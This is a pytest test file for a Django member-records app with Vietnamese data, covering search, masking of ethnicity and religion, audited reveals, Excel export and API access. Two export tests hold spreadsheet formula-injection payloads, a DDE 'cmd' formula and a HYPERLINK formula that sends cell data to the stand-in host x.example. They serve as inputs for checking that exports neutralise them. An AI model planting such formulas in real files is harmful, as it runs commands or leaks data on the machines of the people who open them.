from __future__ import annotations

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from hoso.audit.models import AuditEvent
from hoso.people.models import Member, Person
from tests.conftest import Personas, World, client_for, xlsx_cells


@pytest.fixture
def member(world: World) -> Member:
    person = Person.objects.create(
        family_name="Trần",
        middle_name="Thị",
        given_name="Hòa",
        sex="F",
        ethnicity="Tày",
        religion="Phật giáo",
        citizen_id="001190000123",
        home_town="xã Hòa Bình, Hà Nội",
    )
    return Member.objects.create(
        person=person, organization=world.cell_a, status="official", card_number="01000123"
    )


def test_list_search_and_more(world: World, personas: Personas, member: Member) -> None:
    for i in range(55):
        p = Person.objects.create(
            family_name="Lê", middle_name="Văn", given_name=f"Tư{i:02d}", sex="M"
        )
        Member.objects.create(person=p, organization=world.cell_a, status="official")
    client = client_for(personas.clerk_a)
    first = client.get(reverse("member-list"))
    assert len(first.context["members"]) == 50 and first.context["next"]
    more = client.get(
        reverse("member-list"), {"after": first.context["next"]}, HTTP_HX_REQUEST="true"
    )
    assert len(more.context["members"]) == 6
    found = client.get(reverse("member-list"), {"q": "tran thi hoa"})
    assert [m.pk for m in found.context["members"]] == [member.pk]
    assert "TRẦN THỊ HÒA" in found.content.decode()


def test_sensitive_fields_masked_in_page_and_list(
    world: World, personas: Personas, member: Member
) -> None:
    client = client_for(personas.clerk_a)
    page = client.get(reverse("member-detail", args=[member.pk])).content.decode()
    assert "Tày" not in page and "Phật giáo" not in page
    assert "Tày" not in client.get(reverse("member-list")).content.decode()
    opened = AuditEvent.objects.get(event_type="member.viewed")
    assert opened.actor == personas.clerk_a and opened.object_id == str(member.pk)


def test_reveal_needs_the_role_and_is_audited(
    world: World, personas: Personas, member: Member
) -> None:
    url = reverse("member-reveal", args=[member.pk])
    reason = {"reason": "Thẩm tra hồ sơ bổ nhiệm"}
    assert client_for(personas.clerk_a).post(url, reason).status_code == 403
    assert not AuditEvent.objects.filter(event_type="member.sensitive_revealed").exists()
    head = client_for(personas.head_p)
    for missing in ({}, {"reason": "   "}, {"reason": "ab"}, {"reason": "x" * 501}):
        refused = head.post(url, missing, HTTP_HX_REQUEST="true").content.decode()
        assert "Tày" not in refused and "Phật giáo" not in refused
        assert "lý do" in refused.lower()
    assert not AuditEvent.objects.filter(event_type="member.sensitive_revealed").exists()
    shown = head.post(url, reason, HTTP_HX_REQUEST="true").content.decode()
    assert "Tày" in shown and "Phật giáo" in shown
    event = AuditEvent.objects.get(event_type="member.sensitive_revealed")
    assert event.actor == personas.head_p
    assert event.details == {"fields": ["ethnicity", "religion"]}
    assert event.reason == "Thẩm tra hồ sơ bổ nhiệm"


def test_excel_export_in_order_and_audited(
    world: World, personas: Personas, member: Member
) -> None:
    response = client_for(personas.clerk_a).get(reverse("member-export"), {"q": "hoa"})
    book = load_workbook(io.BytesIO(response.content))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][0] == "Họ và tên"
    assert rows[1][0] == "TRẦN THỊ HÒA" and rows[1][4] == "001190000123"
    assert "Tày" not in str(rows)
    assert AuditEvent.objects.get(event_type="member.exported").details == {
        "list": "dang-vien",
        "q": "hoa",
    }


def test_excel_export_writes_formula_like_text_as_text(world: World, personas: Personas) -> None:
    """Finding 6 of issue 10: a name or home town typed as a formula is exported as text."""
    person = Person.objects.create(
        family_name="=cmd|' /C calc'!A0", given_name="An", sex="M", home_town="+cmd|' /C x'!A0"
    )
    Member.objects.create(
        person=person,
        organization=world.cell_a,
        status="official",
        admitted_on=dt.date(2001, 5, 19),
        card_number="@SUM(A1)",
    )
    response = client_for(personas.clerk_a).get(reverse("member-export"))
    header, row = xlsx_cells(response.content)
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    assert cells["Họ và tên"].value == "=CMD|' /C CALC'!A0 AN"
    assert cells["Quê quán"].value == "+cmd|' /C x'!A0"
    assert cells["Số thẻ đảng viên"].value == "@SUM(A1)"
    for name in ("Họ và tên", "Quê quán", "Số thẻ đảng viên"):
        # Stored as text, and marked so that Excel keeps it text when the cell is edited.
        assert cells[name].data_type == "s" and cells[name].quotePrefix, name
    assert cells["Ngày vào Đảng"].is_date  # dates stay dates
    assert cells["Ngày vào Đảng"].value == dt.datetime(2001, 5, 19)


EXFILTRATE = '=HYPERLINK("http://x.example/?d="&A2,"Xem")'


def test_register_export_writes_formula_like_text_as_text(world: World, personas: Personas) -> None:
    person = Person.objects.create(family_name="Lê", given_name="Ba", sex="M", home_town=EXFILTRATE)
    Member.objects.create(person=person, organization=world.cell_a, status="official")
    response = client_for(personas.clerk_a).get(
        reverse("register", args=["members"]), {"org": "DUA", "format": "xlsx"}
    )
    header, row = xlsx_cells(response.content)
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    assert cells["Quê quán"].value == EXFILTRATE
    assert cells["Quê quán"].data_type == "s" and cells["Quê quán"].quotePrefix
    assert cells["STT"].data_type == "n" and cells["STT"].value == 1


def test_api_search_filter_and_cursor(world: World, personas: Personas, member: Member) -> None:
    client = client_for(personas.head_p)
    data = client.get("/api/v1/members/", {"search": "hoà", "org": "DUA"}).json()
    assert [m["id"] for m in data["results"]] == [member.pk] and data["next"] is None
    assert client.get("/api/v1/members/", {"org": "ZZB"}).json()["results"] == []
    assert client.get("/api/v1/members/", {"status": "deceased"}).json()["results"] == []
    detail = client.get(f"/api/v1/members/{member.pk}/").json()
    assert detail["full_name"] == "Trần Thị Hòa" and "religion" not in detail


def test_administrator_and_auditor_see_no_member_pages(
    world: World, personas: Personas, member: Member
) -> None:
    for user in (personas.admin_root, personas.auditor_p):
        client = client_for(user)
        assert client.get(reverse("member-list")).status_code == 404
        assert client.get(reverse("member-detail", args=[member.pk])).status_code == 404
